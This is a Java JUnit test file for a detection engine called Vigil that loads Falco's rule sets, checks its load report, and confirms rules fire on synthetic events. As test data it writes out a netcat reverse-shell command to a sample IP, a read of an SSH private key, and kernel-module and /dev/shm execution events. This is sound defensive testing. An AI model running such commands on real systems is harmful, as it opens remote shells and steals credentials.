package dev.vigil.detect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.detect.rules.fields.HostContext;
import dev.vigil.detect.rules.fields.HostFields;
import dev.vigil.detect.rules.fields.NetFields;
import dev.vigil.testkit.Requirements;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Falco's own rule files (falcosecurity/rules, ../shared/corpora/falco) loaded in Falco's order
 * (stable, incubating, sandbox): they load without errors, the report lists what Vigil can evaluate
 * and which fields it lacks for the rest, and the evaluable rules fire on Vigil's events.
 */
class FalcoCorpusTest {

    private static RuleSet falco;
    private final HostContext ctx = new HostContext("node-1");

    @BeforeAll
    static void load() {
        Path dir = Requirements.corpora().resolve("falco");
        falco = RuleEngine.builder().source(HostFields.SOURCE).source(NetFields.SOURCE).matching(RuleMatching.ALL).build()
                .loadPaths(List.of(dir.resolve("falco_rules.yaml"), dir.resolve("falco-incubating_rules.yaml"),
                        dir.resolve("falco-sandbox_rules.yaml")));
        System.out.println(falco.report().render());
    }

    @Test
    void loadWithoutErrorsAndReportWhatVigilCanEvaluate() {
        LoadReport report = falco.report();
        assertThat(report.errors()).isEmpty();
        assertThat(report.rules()).as("25 stable + 31 incubating + 37 sandbox rules").hasSize(93);
        assertThat(report.enabledCount()).isEqualTo(81);
        assertThat(report.countIn(LoadReport.State.EVALUABLE)).isEqualTo(60);
        assertThat(report.countIn(LoadReport.State.MISSING_FIELDS)).isEqualTo(33);
        assertThat(report.evaluableCount()).isEqualTo(55);
        assertThat(report.countIn(LoadReport.State.UNKNOWN_SOURCE) + report.countIn(LoadReport.State.ERROR)).isZero();
        assertThat(report.requiredEngineVersion()).isEqualTo("0.57.0");
        assertThat(report.pluginRequirements()).containsExactly("container 0.4.0");
        Map<String, Integer> lacking = report.missingFieldUse();
        assertThat(lacking).containsEntry("fd.net", 11).containsEntry("fd.ip", 10).containsEntry("proc.vpid", 5)
                .containsEntry("proc.pcmdline", 4).containsEntry("container.privileged", 3).containsEntry("user.loginuid", 2);
        assertThat(lacking.keySet()).as("only fields of Falco's that Vigil's host sensor does not collect")
                .allMatch(f -> f.startsWith("fd.") || f.startsWith("proc.") || f.startsWith("container.")
                        || f.startsWith("thread.") || f.startsWith("user.") || f.equals("evt.buffer"));
        assertThat(report.rule("Terminal shell in container").state()).isEqualTo(LoadReport.State.EVALUABLE);
        assertThat(report.rule("Launch Privileged Container").missingFields())
                .containsExactlyInAnyOrder("proc.vpid", "container.privileged");
        assertThat(report.rules()).filteredOn(r -> r.state() == LoadReport.State.EVALUABLE && !r.firesOnVigilEvents())
                .extracting(LoadReport.RuleStatus::name).containsExactlyInAnyOrder("Set Setuid or Setgid bit",
                        "Modify binary dirs", "Mkdir binary dirs", "Container Drift Detected (chmod)",
                        "Unprivileged Delegation of Page Faults Handling to a Userspace Process");
    }

    private List<String> fired(RuleSet set, Events.Builder event) {
        List<String> out = new ArrayList<>();
        set.forSource(HostFields.SOURCE).evaluate(event.bind(ctx), m -> out.add(m.rule().name()));
        return out;
    }

    private Events.Builder exec(String name, List<String> argv) {
        return Events.exec(name, argv, "containerd-shim");
    }

    @Test
    void falcosRulesFireOnVigilsEvents() {
        assertThat(fired(falco, exec("bash", List.of("bash")).session(34816, 1, 0))).contains("Terminal shell in container");
        assertThat(fired(falco, exec("nc", List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444"))))
                .contains("Netcat Remote Code Execution in Container");
        assertThat(fired(falco, exec("x", List.of("/dev/shm/x")))).contains("Execution from /dev/shm");
        assertThat(fired(falco, exec("x", List.of("x")).exe(false, true))).contains("Fileless execution via memfd_create");
        assertThat(fired(falco, exec("x", List.of("x")).exe(true, false))).contains("Drop and execute new binary in container");
        assertThat(fired(falco, exec("gdb", List.of("gdb")).event("ptrace", 1).args("request=PTRACE_ATTACH pid=1")))
                .contains("PTRACE attached to process");
        assertThat(fired(falco, exec("scapy", List.of("scapy")).event("socket", 1).args("domain=AF_PACKET(17) type=3 proto=768")))
                .contains("Packet socket created in container");
        assertThat(fired(falco, exec("insmod", List.of("insmod", "x.ko")).event("finit_module", 1).session(0, 1, 1L << 16)))
                .contains("Linux Kernel Module Injection Detected");
        assertThat(fired(falco, exec("insmod", List.of("insmod", "x.ko")).event("finit_module", 1).session(0, 1, 1)))
                .doesNotContain("Linux Kernel Module Injection Detected");
    }

    @Test
    void benignActivityStaysQuiet() {
        assertThat(fired(falco, Events.exec("python3", List.of("python3", "-m", "app"), "tini"))).isEmpty();
        assertThat(fired(falco, Events.open("java", "/app/config.yaml", "r"))).isEmpty();
    }

    @Test
    void theCompatibilityFileMakesFalcosFileRulesMatchVigilsFileEvents() {
        Path dir = Requirements.corpora().resolve("falco");
        RuleSet withCompat = RuleEngine.builder().source(HostFields.SOURCE).matching(RuleMatching.ALL).build()
                .load(files(dir, RuleFile.resource("rules/falco_compat.yaml")));
        assertThat(withCompat.report().errors()).isEmpty();
        Events.Builder sshKey = Events.open("cat", "/home/alice/.ssh/id_rsa", "r");
        assertThat(fired(withCompat, sshKey)).contains("Read ssh information");
        assertThat(fired(falco, sshKey)).as("without it, open_read needs fd.num>=0").doesNotContain("Read ssh information");
    }

    private static List<RuleFile> files(Path dir, RuleFile extra) {
        try {
            return List.of(RuleFile.read(dir.resolve("falco_rules.yaml")), RuleFile.read(dir.resolve("falco-incubating_rules.yaml")),
                    RuleFile.read(dir.resolve("falco-sandbox_rules.yaml")), extra);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
